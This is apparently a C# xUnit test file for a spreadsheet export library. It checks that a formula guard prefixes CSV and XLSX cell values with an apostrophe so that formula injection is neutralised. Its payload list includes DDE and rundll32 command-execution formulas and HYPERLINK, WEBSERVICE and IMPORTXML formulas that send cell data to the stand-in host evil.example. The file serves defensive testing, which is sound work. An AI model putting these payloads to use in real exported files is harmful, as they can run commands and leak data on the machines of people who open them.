using System.IO.Compression;
using System.Text;
using LaChan.Platform.Tables;

namespace LaChan.Platform.Tests.Tables;

public sealed class FormulaPayloads
{
    private static readonly string[] Starts =
        ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "\t=", "\r=", "\n=", "\0=", " =", "\u00A0+", "\u200B@", "\uFEFF=", "'=", "''+"];

    private static readonly string[] Bodies =
    [
        "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example?x=\"&A1,\"Xem\")", "WEBSERVICE(\"http://evil.example\")",
        "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "SUM(1+1)*cmd|'/C calc'!A0", "DDE(\"cmd\",\"/C calc\",\"x\")", "A1", "",
        "1,2", "1;2", "\"\"", "=1", "'=1", "\n=1", "\r\n=1", "1\t=2", "TRUE", "{1;2}", "rundll32|'URL.dll,OpenURL calc.exe'!A", "_x0041_", "]]>&lt;f>1</f>",
    ];

    private static readonly TableColumns<string> Column = new TableColumns<string>().Text("t", text => text);

    private static string[] Payloads => [.. Starts.SelectMany(start => Bodies.Select(body => start + body))];

    [Fact]
    public void There_are_five_hundred() => Assert.True(Payloads.Distinct().Count() >= 500);

    [Fact]
    public void None_is_left_bare_and_each_comes_back() => Assert.All(Payloads, payload =>
    {
        var guarded = FormulaGuard.Protect(payload);
        Assert.StartsWith("'", guarded, StringComparison.Ordinal);
        Assert.Equal(payload, FormulaGuard.Restore(guarded));
    });

    [Theory]
    [InlineData("Chợ Cốc Lếu")]
    [InlineData("O'Hara")]
    [InlineData("'quoted'")]
    [InlineData("a=b")]
    [InlineData("1-2")]
    [InlineData("")]
    [InlineData("   ")]
    public void Ordinary_text_is_left_alone(string text)
    {
        Assert.Equal(text, FormulaGuard.Protect(text));
        Assert.Equal(text, FormulaGuard.Restore(text));
    }

    [Fact]
    public async Task In_CSV_every_field_begins_with_an_apostrophe_and_reads_back()
    {
        var csv = await Files.CsvAsync(Column, Payloads);

        Assert.All(Payloads, payload => Assert.Contains("'" + payload.Replace("\"", "\"\"", StringComparison.Ordinal), Encoding.UTF8.GetString(csv), StringComparison.Ordinal));
        Assert.Equal(Payloads, (await Files.ReadAsync(csv)).Select(row => row.Cells[0]));
    }

    [Fact]
    public async Task In_a_workbook_they_are_text_cells_that_stay_text_when_edited()
    {
        var xlsx = await Files.XlsxAsync(Column, Payloads);

        using var zip = new ZipArchive(new MemoryStream(xlsx));
        using var part = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        var sheet = await part.ReadToEndAsync(TestContext.Current.CancellationToken);
        Assert.DoesNotContain("<f", sheet, StringComparison.Ordinal);
        Assert.Equal(Payloads.Length, sheet.Split("s=\"3\" t=\"inlineStr\"").Length - 1);
        Assert.Equal(Payloads, (await Files.ReadAsync(xlsx)).Select(row => row.Cells[0]));
    }
}
